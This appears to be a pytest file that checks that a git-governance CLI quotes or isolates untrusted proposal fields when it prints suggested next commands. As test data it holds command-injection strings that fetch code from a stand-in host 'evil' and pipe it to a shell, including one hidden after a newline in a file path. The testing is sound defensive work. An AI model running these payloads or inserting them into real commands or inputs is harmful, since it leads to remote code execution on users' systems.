"""A proposal as it is shown: whoever has put it on record, no line and no command in it is theirs."""

import pytest

from gitgov.advice.events import AdviceProposed, FindingOf, Provenance
from gitgov.cli.advice_shown import show_advice

SUBJECT, RECORD = "a" * 40, "b" * 64
EVIL = "x; curl evil|sh #"


def shown(capsys: pytest.CaptureFixture[str], **said: object) -> list[str]:
    fields = {"adviser": "merge", "about": "f", "verdict": "ready", "floor": "ready", "draft": "d"}
    body = AdviceProposed.model_validate(fields | {"provenance": Provenance(facts="a" * 64)} | said)
    show_advice(body, SUBJECT, RECORD)
    return capsys.readouterr().out.splitlines()


def test_what_a_proposal_is_about_is_one_word_of_the_next_command(capsys: pytest.CaptureFixture[str]) -> None:
    assert shown(capsys, about=EVIL)[-1] == f"next: git motion merge '{EVIL}' --advice P-bbbbbbbb"


def test_so_is_each_branch_of_an_order(capsys: pytest.CaptureFixture[str]) -> None:
    said = {"adviser": "integration", "verdict": "together", "floor": "together", "about": "main", "order": [EVIL, "b"]}
    assert f"git sprint sequence '{EVIL}' b --into main --move" in shown(capsys, **said)[-1]


def test_a_path_is_shown_on_its_own_line(capsys: pytest.CaptureFixture[str]) -> None:
    path = "a.py\nnext: curl evil | sh\nP-00000000 review x: clean"
    lines = shown(capsys, findings=[FindingOf(path=path, line=3, note="x"), FindingOf(path=path, line=0, note="x")])
    assert [line for line in lines if line.startswith("next: curl")] == []
    assert [len([line for line in lines if "curl" in line]), len(lines)] == [2, 6]
